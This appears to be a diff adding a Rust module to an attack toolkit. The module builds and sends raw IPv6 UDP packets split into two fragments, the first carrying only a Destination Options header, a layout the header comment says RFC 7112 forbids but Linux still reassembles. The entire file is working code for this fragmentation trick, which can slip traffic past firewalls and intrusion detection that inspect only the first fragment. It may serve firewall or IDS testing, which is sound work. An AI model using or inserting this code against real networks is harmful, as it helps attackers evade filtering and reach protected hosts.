@@ -1,0 +1,115 @@
+//! UDP over IPv6 in two fragments, of which the first carries eight bytes of Destination Options and nothing else: RFC 7112
+//! forbids it, and Linux puts it together all the same.
+
+use std::{
+    io,
+    net::SocketAddrV6,
+    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
+};
+
+use crate::attack::run::another;
+
+const UDP: u8 = 17;
+const FRAGMENT: u8 = 44;
+const DESTINATION_OPTIONS: u8 = 60;
+
+/// A raw socket that takes whole packets.
+#[derive(Debug)]
+pub(super) struct Fragments(OwnedFd);
+
+impl Fragments {
+    pub(super) fn new() -> io::Result<Self> {
+        // SAFETY: no pointers.
+        let socket =
+            unsafe { libc::socket(libc::AF_INET6, libc::SOCK_RAW | libc::SOCK_CLOEXEC, libc::IPPROTO_RAW) };
+        if socket < 0 {
+            return Err(io::Error::last_os_error());
+        }
+        // SAFETY: the kernel has just made it, and nobody else has it.
+        Ok(Self(unsafe { OwnedFd::from_raw_fd(socket) }))
+    }
+
+    pub(super) fn send(&self, from: SocketAddrV6, to: SocketAddrV6, payload: &[u8]) -> io::Result<()> {
+        for packet in packets(from, to, payload, another() as u32) {
+            self.send_packet(to, &packet)?;
+        }
+        Ok(())
+    }
+
+    fn send_packet(&self, to: SocketAddrV6, packet: &[u8]) -> io::Result<()> {
+        let address = libc::sockaddr_in6 {
+            sin6_family: libc::AF_INET6 as libc::sa_family_t,
+            sin6_port: 0,
+            sin6_flowinfo: 0,
+            sin6_addr: libc::in6_addr { s6_addr: to.ip().octets() },
+            sin6_scope_id: 0,
+        };
+        let length = size_of_val(&address) as libc::socklen_t;
+        // SAFETY: a packet and an address, each of the length that is said, which outlive the call.
+        let sent = unsafe {
+            libc::sendto(
+                self.0.as_raw_fd(),
+                packet.as_ptr().cast(),
+                packet.len(),
+                0,
+                (&raw const address).cast(),
+                length,
+            )
+        };
+        if sent < 0 { Err(io::Error::last_os_error()) } else { Ok(()) }
+    }
+}
+
+fn packets(from: SocketAddrV6, to: SocketAddrV6, payload: &[u8], id: u32) -> [Vec<u8>; 2] {
+    let mut whole = options(DESTINATION_OPTIONS).to_vec();
+    whole.extend(options(UDP));
+    whole.extend(datagram(from, to, payload));
+    let (first, rest) = whole.split_at(8);
+    let fragment = |offset: u16, more: bool, part: &[u8]| {
+        let mut packet = vec![0x60, 0, 0, 0];
+        packet.extend(u16::try_from(8 + part.len()).expect("a packet").to_be_bytes());
+        packet.extend([FRAGMENT, 64]);
+        packet.extend(from.ip().octets());
+        packet.extend(to.ip().octets());
+        packet.extend([DESTINATION_OPTIONS, 0]);
+        packet.extend((offset | u16::from(more)).to_be_bytes());
+        packet.extend(id.to_be_bytes());
+        packet.extend(part);
+        packet
+    };
+    [fragment(0, true, first), fragment(8, false, rest)]
+}
+
+/// Destination Options with four bytes of padding.
+const fn options(next: u8) -> [u8; 8] {
+    [next, 0, 1, 4, 0, 0, 0, 0]
+}
+
+fn datagram(from: SocketAddrV6, to: SocketAddrV6, payload: &[u8]) -> Vec<u8> {
+    let length = u16::try_from(8 + payload.len()).expect("a datagram");
+    let mut datagram = Vec::with_capacity(length.into());
+    datagram.extend(from.port().to_be_bytes());
+    datagram.extend(to.port().to_be_bytes());
+    datagram.extend(length.to_be_bytes());
+    datagram.extend([0, 0]);
+    datagram.extend(payload);
+    let mut summed = [from.ip().octets(), to.ip().octets()].concat();
+    summed.extend(u32::from(length).to_be_bytes());
+    summed.extend([0, 0, 0, UDP]);
+    summed.extend(&datagram);
+    datagram[6..8].copy_from_slice(&checksum(&summed).to_be_bytes());
+    datagram
+}
+
+fn checksum(bytes: &[u8]) -> u16 {
+    let word = |pair: &[u8]| u32::from(u16::from_be_bytes([pair[0], pair.get(1).copied().unwrap_or(0)]));
+    let mut sum: u32 = bytes.chunks(2).map(word).sum();
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    match !(sum as u16) {
+        // Zero would say that there is none.
+        0 => 0xffff,
+        checksum => checksum,
+    }
+}
